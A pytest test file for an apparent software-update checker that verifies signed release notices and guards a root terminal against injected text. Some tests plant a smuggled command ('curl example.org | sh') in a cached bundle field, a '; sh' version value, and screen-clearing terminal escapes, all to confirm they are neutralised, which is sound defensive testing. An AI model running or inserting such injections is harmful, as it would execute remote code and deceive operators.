"""Whether a newer release is out: what is believed, what is kept for the page, and what a person is told."""

import json
import os
import socket
import threading
from collections.abc import Iterator
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from installing.bundle import packed
from installing.errors import InstallError
from installing.looking import look, told
from installing.signed import seal
from papermachine import Machine, run
from releasing.release import Facts, bundle
from signing import made_key, naming

NOTES = "- The beep is softer.\n- \x1b[2JA cursor that moves."


@pytest.fixture(scope="module")
def key(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return made_key(tmp_path_factory.mktemp("key") / "signing")


@pytest.fixture
def wall(machine: Machine, source: Path, key: Path, monkeypatch: pytest.MonkeyPatch) -> Machine:
    text = (source / "pyproject.toml").read_text()
    (source / "pyproject.toml").write_text(text.replace('"1.0"', '"1.0.0"'))
    run(machine, source)
    naming(key, machine.layout.release_keys)
    monkeypatch.setattr(os, "geteuid", lambda: 0)
    return machine


def publish(folder: Path, wall: Machine, key: Path, version: str = "2.0.0") -> Path:
    content = folder / f"content-{version}"
    (content / "source").mkdir(parents=True)
    (content / "source/pyproject.toml").write_text("")
    out = folder / "out"
    bundle(content, Facts(version, "2026-12-01", NOTES, ""), key, wall.layout.release_keys, out)
    return out


def named(wall: Machine, source: str) -> None:
    wall.layout.updates.write_text(f'source = "{source}"\n')


def kept(wall: Machine) -> dict[str, object]:
    look(wall.layout)
    found: dict[str, object] = json.loads(wall.layout.latest.read_bytes())
    return found


@pytest.fixture
def address(tmp_path: Path) -> Iterator[str]:
    quiet = type("Quiet", (SimpleHTTPRequestHandler,), {"log_message": lambda *_: None})
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(quiet, directory=tmp_path / "out"))
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}/"
    server.shutdown()
    server.server_close()


def test_nobody_looks_where_no_source_is_named(wall: Machine) -> None:
    with pytest.raises(InstallError, match=r"updates\.toml: no source of releases is named, so nobody looks; write"):
        told(wall.layout, wall)
    assert not wall.has_run("systemctl start hingewall-updates.service")


@pytest.mark.parametrize("how", ["a folder", "an address"])
def test_a_newer_release_is_told_with_its_notes_and_what_to_type(
    wall: Machine, key: Path, tmp_path: Path, address: str, how: str
) -> None:
    out = publish(tmp_path, wall, key)
    place = str(out) if how == "a folder" else address
    named(wall, place)
    assert kept(wall)["version"] == "2.0.0"
    said = told(wall.layout, wall)
    assert wall.has_run("systemctl start hingewall-updates.service")
    assert said.startswith("2.0.0 of 2026-12-01 is out; 1.0.0 is installed.")
    assert "- The beep is softer.\n" in said
    assert "\x1b" not in said
    assert said.endswith("hingewall-2.0.0.bundle, then: sudo hingewall update hingewall-2.0.0.bundle")


def test_the_newest_release_has_no_newer_one(wall: Machine, key: Path, tmp_path: Path) -> None:
    named(wall, str(publish(tmp_path, wall, key, "1.0.0")))
    look(wall.layout)
    assert told(wall.layout, wall).startswith("1.0.0 is installed, and 1.0.0 the newest at ")


def test_what_is_not_signed_or_can_t_be_had_is_said_and_the_last_good_word_stays(
    wall: Machine, key: Path, tmp_path: Path
) -> None:
    out = publish(tmp_path, wall, key)
    named(wall, str(out))
    assert kept(wall)["error"] == ""
    latest = out / "hingewall-latest"
    latest.write_bytes(latest.read_bytes().replace(b'"2.0.0"', b'"9.0.0"'))
    found = kept(wall)
    assert "damaged, or signed by nobody" in str(found["error"])
    assert found["version"] == "2.0.0"
    with pytest.raises(InstallError, match="damaged, or signed by nobody"):
        told(wall.layout, wall)
    latest.unlink()
    assert "can't be had" in str(kept(wall)["error"])
    latest.write_bytes(bytes(300 * 1024))
    assert "longer than 256 kB" in str(kept(wall)["error"])


def test_a_release_itself_is_no_word_of_one(wall: Machine, key: Path, tmp_path: Path) -> None:
    named(wall, str(out := publish(tmp_path, wall, key)))
    (tmp_path / "c").mkdir()
    (tmp_path / "c/x").write_text("")
    packed(tmp_path / "c", "2.0.0", "2026-12-01", tmp_path / "payload.tar.gz")
    seal(tmp_path / "payload.tar.gz", key, out / "hingewall-latest")
    assert "signed, but is no word of a release" in str(kept(wall)["error"])


@pytest.mark.parametrize(
    ("text", "why"),
    [
        ('source = "ftp://a"', "source is 'ftp://a', expected"), ("source = 3", "source is 3, expected"),
        ("other = 1", "source is None, expected"), ("source =", "mend it, or delete it"),
    ],
)  # fmt: skip
def test_a_source_that_can_be_none_is_named(wall: Machine, text: str, why: str) -> None:
    wall.layout.updates.write_text(text)
    with pytest.raises(InstallError, match=why):
        look(wall.layout)


HELD = {"looked": 1, "source": "/media/usb", "error": "", "version": "2.0.0", "released": "", "notes": "", "bundle": ""}


def test_who_has_taken_over_the_process_that_looks_types_nothing_on_root_s_terminal(wall: Machine) -> None:
    named(wall, "/media/usb")
    latest = wall.layout.latest
    latest.parent.mkdir(parents=True)
    latest.write_text(json.dumps(HELD | {"bundle": "x; curl example.org | sh"}))
    assert told(wall.layout, wall).endswith("then: sudo hingewall update hingewall-2.0.0.bundle")
    for error, heard in (
        ("\x1b[2J\x9bAall is well", "^\\[2JAall is well$"),
        ({}, "left no answer"),
        (1, "left no answer"),
    ):
        latest.write_text(json.dumps(HELD | {"error": error} | ({} if error else {"version": "2; sh"})))
        with pytest.raises(InstallError, match=heard):
            told(wall.layout, wall)
    latest.unlink()
    os.mkfifo(latest)  # which nobody ever writes to
    with pytest.raises(InstallError, match="left no answer"):
        told(wall.layout, wall)


def test_a_source_s_own_words_move_no_cursor(wall: Machine) -> None:
    """By plain http anybody on the way may answer, and needs no key for a refusal."""
    answer = b"HTTP/1.1 404 \x1b[2J\x1b]0;all is well\x07\r\nContent-Length: 0\r\n\r\n"
    with socket.create_server(("127.0.0.1", 0)) as server:

        def refuse() -> None:
            peer, _ = server.accept()
            with peer:
                peer.recv(4096)
                peer.sendall(answer)

        threading.Thread(target=refuse, daemon=True).start()
        named(wall, f"http://127.0.0.1:{server.getsockname()[1]}")
        assert "404" in str(kept(wall)["error"])
    with pytest.raises(InstallError, match="404") as said:
        told(wall.layout, wall)
    assert str(said.value).isprintable()


def test_only_root_has_it_looked_for_now(wall: Machine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "geteuid", lambda: 1000)
    named(wall, "/media/usb")
    with pytest.raises(InstallError, match="run: sudo hingewall update --check"):
        told(wall.layout, wall)
